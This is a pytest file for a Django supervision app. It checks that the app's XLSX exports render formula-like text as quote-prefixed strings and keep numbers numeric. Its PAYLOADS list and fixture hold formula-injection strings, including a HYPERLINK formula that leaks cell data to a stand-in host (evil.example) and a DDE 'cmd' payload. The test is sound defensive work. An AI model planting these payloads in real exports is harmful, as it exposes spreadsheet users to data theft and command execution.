"""Exports carry no formulas: a text that Excel or WPS would run (=, +, -, @, a tab or CR
first) is written as a string with the quote-prefix style, numbers stay numbers. Each
export is read back as the .xlsx archive it is, looking for any <f> element."""

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from xiaoneng.core.policy import SYSTEM
from xiaoneng.core.xlsx import write_xlsx
from xiaoneng.projects.models import Batch, Industry, Project
from xiaoneng.projects.services import ensure_default_industries
from xiaoneng.supervision import services
from xiaoneng.supervision.models import Item

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def assert_no_formulas(content: bytes) -> None:
    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert not re.search(rb"<f[\s>]", archive.read(name)), name


def _plain(text: str) -> str:
    return text.replace("_x000D_", "\r")  # how the file spells a CR; openpyxl keeps it


def texts_and_prefix(content: bytes) -> dict[str, bool]:
    """{cell text: shown as text (quote prefix)} for every text cell."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells[_plain(cell.value)] = bool(cell.quotePrefix)
    return cells


def test_the_writer_keeps_payloads_as_quoted_text_and_numbers_as_numbers():
    content = write_xlsx(["文本", "数字"], [[p, 12.5] for p in PAYLOADS] + [["普通", Decimal("3")]])
    assert_no_formulas(content)
    cells = texts_and_prefix(content)
    for payload in PAYLOADS:
        assert cells[_plain(payload)] is True, payload
    assert cells["普通"] is False
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws["B2"].value == 12.5 and ws["B9"].value == 3


def test_the_items_export_carries_no_formula(client_for, province_supervisor, county_a):
    for payload in PAYLOADS:
        services.assign_item(
            actor=province_supervisor,
            kind="task",
            title=payload,
            lead_unit=county_a,
            assigned_on=dt.date.today(),
            deadline=dt.date.today() + dt.timedelta(days=30),
        )
    response = client_for(province_supervisor).get("/supervision/export/")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_no_formulas(content)
    cells = texts_and_prefix(content)
    titles = Item.objects.values_list("title", flat=True)  # as stored (trimmed)
    assert len(titles) == len(PAYLOADS)
    assert all(cells.get(title) is True for title in titles), (list(titles), cells)


@pytest.fixture
def hostile_project(prefecture, county_a):
    ensure_default_industries()
    batch = Batch.objects.create(code="2022Q2", ceremony_date=dt.date(2022, 6, 8), actor=SYSTEM)
    return Project.objects.create(
        code="=1+1",
        name='=HYPERLINK("http://evil.example","点我")',
        batch=batch,
        prefecture=prefecture,
        county=county_a,
        industry=Industry.objects.get(name="交通"),
        total_investment=Decimal("1000"),
        annual_plan=Decimal("500"),
        owner="@SUM(A1)",
        actor=SYSTEM,
    )


@pytest.mark.parametrize("url", ["/projects/list/export.xlsx", "/projects/export.xlsx"])
def test_the_project_exports_carry_no_formula(
    client_for, province_supervisor, hostile_project, url
):
    response = client_for(province_supervisor).get(url, {"batch": "2022Q2"})
    assert response.status_code == 200
    content = response.content
    assert_no_formulas(content)
    cells = texts_and_prefix(content)
    if url.startswith("/projects/list/"):
        assert cells['=HYPERLINK("http://evil.example","点我")'] is True
        assert cells["@SUM(A1)"] is True
    # numbers stay numbers
    book = openpyxl.load_workbook(io.BytesIO(content))
    numbers = [c.value for ws in book.worksheets for r in ws.iter_rows() for c in r]
    assert any(isinstance(v, int | float) and v == 1000 for v in numbers)
